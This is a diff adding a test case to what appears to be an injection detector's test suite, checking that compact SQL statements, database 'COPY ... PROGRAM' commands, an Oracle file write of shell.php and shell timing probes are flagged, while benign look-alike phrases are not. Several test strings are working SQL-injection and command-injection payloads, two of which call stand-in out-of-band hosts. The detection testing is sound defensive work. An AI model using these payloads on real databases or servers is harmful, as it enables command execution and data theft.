@@ -512,3 +512,10 @@ t.test('(fifty-sixth round) a style sheet linked from another origin; JSP\'s XML
   ]) t.ok(q(v).includes('ssti'), v)
   t.same(q('The page uses a jsp:include action for its header.'), [], 'the action named in prose')
 })
+
+t.test('(fifty-sixth round, tuned on the spent fortieth part\'s misses) a statement with no blank, a program run by the database, a timing probe', async (t) => {
+  for (const v of ['SELECT-1e1FROM`test`', 'SELECT~1.FROM`test`', 'SELECT\\NFROM`test`', 'SELECT-id-1.FROM`test`']) t.ok(q(v).includes('sqli'), v)
+  for (const v of ["copy (SELECT '') to program 'nslookup c7f3k2.oast.example.net'", "COPY t FROM PROGRAM 'id'", "'; BEGIN f := UTL_FILE.FOPEN('DIR','shell.php','w'); END;--"]) t.ok(q(v).includes('sqli'), v)
+  for (const v of ['sleep 10 && echo vulnerable', 'sleep 5;id', '  sleep 3 || curl http://x.oast.example']) t.ok(q(v).includes('rce'), v)
+  for (const v of ['Press select-1 from the menu', '.select-1.from-left { color: red }', 'Copy the installer to program files and run it', "UTL_FILE.FOPEN('LOG_DIR','app.log','w')", 'sleep 8h; eat well', 'sleep 10 minutes and then try again']) t.same(q(v), [], v)
+})
